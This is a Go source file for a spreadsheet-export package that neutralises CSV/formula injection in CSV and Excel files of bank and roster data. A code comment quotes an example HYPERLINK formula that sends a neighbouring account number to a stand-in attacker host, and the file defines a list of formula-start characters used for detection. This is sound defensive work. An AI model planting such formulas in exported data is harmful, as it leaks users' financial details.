package sheet

import (
	"fmt"
	"io"
	"regexp"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// This file is the one way the system writes tables for people to open in Excel or WPS: bank
// transfer files, problem reports, the import templates. A spreadsheet reads a cell that starts
// with = + - @ (or a tab or CR before them) as a formula, so a roster name like
// =HYPERLINK("http://evil.example/?leak="&E2,"点此核对") would run on the staff member's machine
// and could send the account number beside it away (CSV or formula injection). The writer
// applies the OWASP rules to every text cell: a cell that could start a formula gets a leading
// single quote, which Excel and WPS take as "this is text", and every CSV field is quoted with
// its double quotes doubled, so that no separator (',' or the ';' of other locales) inside a
// value can start a new cell.

// Value is one cell of a row. Build it with Text for anything that is not a number the system
// computed itself (names, hospitals, bank names, reasons, file headers) and with Number or Int
// for the numbers it computed (row numbers, amounts in yuan), which stay numbers in Excel.
type Value struct {
	v   string
	num bool
}

// Text is a text cell. It is neutralised when a spreadsheet could read it as a formula.
func Text(s string) Value { return Value{v: s} }

// Number is a numeric cell such as "-12.34". A value that is not a plain decimal number (an
// optional minus, digits, an optional fraction) is written as Text instead, so a mistaken
// Number can never carry a formula.
func Number(s string) Value { return Value{v: s, num: plainNumber.MatchString(s)} }

// Int is a numeric cell holding n.
func Int(n int64) Value { return Value{v: strconv.FormatInt(n, 10), num: true} }

// Texts is a row of text cells.
func Texts(ss ...string) []Value {
	out := make([]Value, len(ss))
	for i, s := range ss {
		out[i] = Text(s)
	}
	return out
}

// String returns the cell as it is written: a text cell neutralised, a number as it is.
func (c Value) String() string {
	if c.num {
		return c.v
	}
	return Neutralize(c.v)
}

// plainNumber is what Number accepts as a number.
var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// formulaStart holds the characters that make a spreadsheet read a cell as a formula or an
// instruction: OWASP's = + - @ tab CR, the NUL of ASVS 1.2.10, a line feed, and the full-width
// forms that Chinese input methods type and some spreadsheets take for the ASCII ones.
const formulaStart = "=+-@\t\r\n\x00＝＋－＠"

// FormulaLike reports whether a spreadsheet could read s as a formula: s starts with one of
// = + - @, a tab, CR, LF or NUL (or a full-width ＝＋－＠), also after leading white space,
// which some spreadsheets drop before they look.
func FormulaLike(s string) bool {
	if s == "" {
		return false
	}
	r, _ := utf8.DecodeRuneInString(s)
	if strings.ContainsRune(formulaStart, r) {
		return true
	}
	t := strings.TrimLeftFunc(s, unicode.IsSpace)
	if t == "" || t == s {
		return false
	}
	r, _ = utf8.DecodeRuneInString(t)
	return strings.ContainsRune(formulaStart, r)
}

// Neutralize returns s with a single quote before it when s is FormulaLike, and s itself
// otherwise. Neutralising twice changes nothing: a neutralised value starts with the quote.
func Neutralize(s string) string {
	if FormulaLike(s) {
		return "'" + s
	}
	return s
}

// bom makes Excel read the file as UTF-8.
const bom = "\ufeff"

// Writer writes a CSV file that is safe to open in Excel and WPS: UTF-8 with a byte order mark,
// one row per line, every field quoted with its double quotes doubled (RFC 4180), and every text
// cell neutralised (see Neutralize). The first error sticks: later writes do nothing and Error
// returns it.
type Writer struct {
	w     io.Writer
	line  []byte
	err   error
	begun bool
}

// NewWriter returns a Writer to w. The byte order mark is written with the first row.
func NewWriter(w io.Writer) *Writer { return &Writer{w: w} }

// Write writes one row.
func (w *Writer) Write(row ...Value) error {
	if w.err != nil {
		return w.err
	}
	w.line = w.line[:0]
	if !w.begun {
		w.line, w.begun = append(w.line, bom...), true
	}
	for i, c := range row {
		if i > 0 {
			w.line = append(w.line, ',')
		}
		w.line = append(w.line, '"')
		w.line = append(w.line, strings.ReplaceAll(c.String(), `"`, `""`)...)
		w.line = append(w.line, '"')
	}
	w.line = append(w.line, '\n')
	_, w.err = w.w.Write(w.line)
	return w.err
}

// Error returns the first error a Write met.
func (w *Writer) Error() error { return w.err }

// SetRow writes cells into row (1-based) of sheetName in f, from column A: text cells as
// neutralised strings, numbers as numbers.
func SetRow(f *excelize.File, sheetName string, row int, cells []Value) error {
	vs := make([]any, len(cells))
	for i, c := range cells {
		vs[i] = c.String()
		if c.num {
			n, err := strconv.ParseFloat(c.v, 64)
			if err != nil {
				return fmt.Errorf("sheet: number %q: %w", c.v, err)
			}
			vs[i] = n
		}
	}
	axis, err := excelize.CoordinatesToCellName(1, row)
	if err != nil {
		return fmt.Errorf("sheet: row %d: %w", row, err)
	}
	return f.SetSheetRow(sheetName, axis, &vs)
}
